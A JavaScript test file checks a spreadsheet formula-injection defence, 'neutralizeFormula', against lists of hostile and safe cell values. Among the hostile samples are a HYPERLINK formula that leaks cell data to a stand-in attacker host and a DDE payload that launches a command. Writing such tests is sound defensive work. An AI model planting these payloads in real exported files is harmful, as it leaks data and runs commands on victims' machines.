import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './spreadsheet-safe.js';

describe('neutralizeFormula', () => {
  it("prefixes ' to cells a spreadsheet would run as a formula", () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=', '-', '+ 1', '--5', '-5-', '=e3'];
    for (const value of hostile) expect(neutralizeFormula(value)).toBe(`'${value}`);
  });

  it('leaves plain numbers (negative ones included) and ordinary text alone', () => {
    const safe = ['-5', '+5', '-0.25', '-.5', '3.', '-1e3', '+2.5E-7', '1234', '', 'SALE 50% OFF', ' =1+1', "'=1", 'a=b', 'x@y.test', '50% - today only'];
    for (const value of safe) expect(neutralizeFormula(value)).toBe(value);
  });
});
